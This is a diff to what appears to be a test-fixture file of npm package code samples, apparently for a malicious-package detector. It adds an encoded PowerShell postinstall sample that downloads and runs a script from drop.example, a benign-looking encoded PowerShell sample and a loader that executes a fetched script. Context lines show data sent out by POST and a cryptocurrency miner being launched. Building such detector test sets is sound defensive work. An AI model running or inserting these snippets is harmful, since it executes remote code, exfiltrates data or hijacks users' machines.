@@ -34,6 +34,13 @@ final class NpmEverydayPrograms {
             const send = ({ what }) => fetch('https://drop.example', { method: 'POST', body: JSON.stringify(what) });
             send({ what: all });
             """),
+        Sample.postinstall(
+            "a command that the code encodes fetches a program and hides it",
+            """
+            const script = 'iwr https://drop.example/a.ps1 -UseBasicParsing | iex';
+            const encoded = Buffer.from(script, 'utf16le').toString('base64');
+            require('child_process').execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', encoded]);
+            """),
         Sample.required(
             "a miner among words",
             "require('child_process').exec('./xmrig -o pool.example:3333');\nexports.data = '"
@@ -57,6 +64,29 @@ final class NpmEverydayPrograms {
               return wasm;
             }
             module.exports = init;
+            """),
+        Sample.required(
+            "a command that the code encodes to save the quotes",
+            """
+            const script = `
+            $given = [Console]::In.ReadToEnd() | ConvertFrom-Json
+            if ($given.action -eq 'read') { [Console]::Out.Write($given.target) } else { throw "no such action" }
+            `;
+            const encoded = Buffer.from(script, 'utf16le').toString('base64');
+            const run = (input) => require('child_process').execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', encoded], { input });
+            module.exports = run;
+            run('{}');
+            """),
+        Sample.required(
+            "a script of a page, as old browsers ask for it",
+            """
+            const load = function (url) {
+              const xhr = window.ActiveXObject ? new window.ActiveXObject('Microsoft.XMLHTTP') : new window.XMLHttpRequest();
+              xhr.open('GET', url, true);
+              xhr.onreadystatechange = function () { if (xhr.readyState === 4) Function(xhr.responseText)(); };
+              return xhr.send(null);
+            };
+            load(document.currentScript.getAttribute('data-src'));
             """),
         Sample.required(
             "a tool of an assistant",
